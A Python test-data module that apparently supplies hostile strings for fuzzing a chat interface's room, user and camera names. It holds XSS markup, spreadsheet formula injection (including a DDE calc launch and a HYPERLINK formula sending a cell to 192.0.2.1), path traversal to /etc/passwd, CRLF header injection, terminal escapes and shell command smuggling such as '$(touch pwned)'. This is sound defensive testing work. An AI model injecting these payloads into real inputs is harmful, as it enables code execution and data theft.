"""Texts that somebody with bad intentions would call a room, a user or a camera."""

import random

FORGED = "PASS    forged by a topic"

MARKUP = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><g/></svg>",
    "</td></tr></table><pwned>",
    "'\" onmouseover='pwned()' x=\"",
    "' onfocus=pwned() autofocus='",
    '"><a href="javascript:pwned()">x</a>',
    "<!--",
    "-->",
    "]]>",
    "</title><script>window.pwned=1</script>",
    "<iframe src=javascript:pwned()>",
    "&lt;pwned&gt;",
    "&#60;script&#62;pwned&#60;/script&#62;",
    "[x](javascript:pwned())",
    "![x](http://192.0.2.1/pwned)",
    "</pre><style>*{display:none}</style>",
    "<math><mi xlink:href='javascript:pwned()'>x</mi></math>",
    "{{7*7}}{% pwned %}",
    "${7*7}",
    "`pwned`",
    "<b>pwned</b>",
    "<object data=pwned>",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"pwned")',
    "a;=1+1",
    "a;'=1+1",
    'a;"=1+1',
    "'=1",
    "''=1",
    "\uff1d1+1",
    "\u22121",
    "a\n=1+1",
    "a\r=1+1",
    '"=1+1',
    "x\ty\t@x",
    "=",
    "-",
    "'",
    "';'=",
)
MATHS = (
    "$\\frac{",
    "$x^2$",
    "$$",
    "$\\href{javascript:pwned()}{x}$",
    "\\(x\\)",
    "\\[x\\]",
    "\\input{pwned}",
    "\\write18{pwned}",
    "$\\unknown$",
    "_{^",
    "%",
    "\\",
    "\\u202e",
)
CONTROLS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://192.0.2.1\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31mred",
    "\x9d0;pwned\x9c",
    "\x07\x08\x7f",
    f"a\n{FORGED}",
    f"a\r{FORGED}",
    f"a\x0b{FORGED}",
    f"a\u2028{FORGED}",
    f"a\x85{FORGED}",
    "\u202emoor\u202c",
    "\u2066x\u2069",
    "a\u200bb",
    "\ufeffa",
    "\u200d",
    "a\x00b",
    "\x1bP1$r\x1b\\",
    "\x1c\x1d\x1e\x1f",
    "\U000e0041",
)
PLACES = (
    "../../etc/passwd",
    "..\\..\\x",
    "%2e%2e%2f",
    "%252e%252e",
    "/etc/passwd",
    "C:\\x",
    "a/b",
    ".",
    "..",
    "~",
    "a&access_token=x",
    "a&room_id=1",
    "a#b",
    "a;b",
    "a?b=c",
    "a=b",
    "a+b",
    "a b",
    "%26",
    "%00",
    "%",
    "a\r\nHost: pwned",
    "a\nSet-Cookie: pwned=1",
    "room_id=__HIVE__",
    "CON",
    "$(touch pwned)",
    "`touch pwned`",
    "$HOME",
    "!!",
    "*",
    "'; touch pwned; '",
    '"; touch pwned; "',
    "-rf",
    "--help",
    "x\\'",
)
NUMBERS = (
    "00123",
    "1E5",
    "1.0",
    "0x10",
    "NaN",
    "null",
    "None",
    "true",
    "1,000",
    "-0",
    "\u0661\u0662",
    "1e400",
)
LETTERS = (
    "\U0001f600",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e\u0301",
    "\u4f1a\u8b70",
    "\u0645\u0631\u062d\u0628\u0627",
    "\u00c5",
    "x" * 140,
    "'",
    '"',
    "''",
    '""',
    "a'b\"c",
    "\\x",
    "\\n",
    "%s%d{}",
    "%(x)s",
    "{0.__class__}",
)
HALVES = ("a\ud800b", "\udfff", "\ude00\ud83d")

ALL = (*MARKUP, *FORMULAS, *MATHS, *CONTROLS, *PLACES, *NUMBERS, *LETTERS)


def sendable(text: str) -> bool:
    """Whether the interface takes it for an ID and for a topic."""
    return bool(text.strip()) and len(text.encode()) < 150


def composed(chance: random.Random) -> str:
    """A text of one to three of these, in each other's way."""
    while True:
        parts = [chance.choice(ALL) for _ in range(chance.choice((1, 1, 2, 3)))]
        text = chance.choice(("", " ", "'", '"', ">", "\n", ";")).join(parts)
        if sendable(text):
            return text
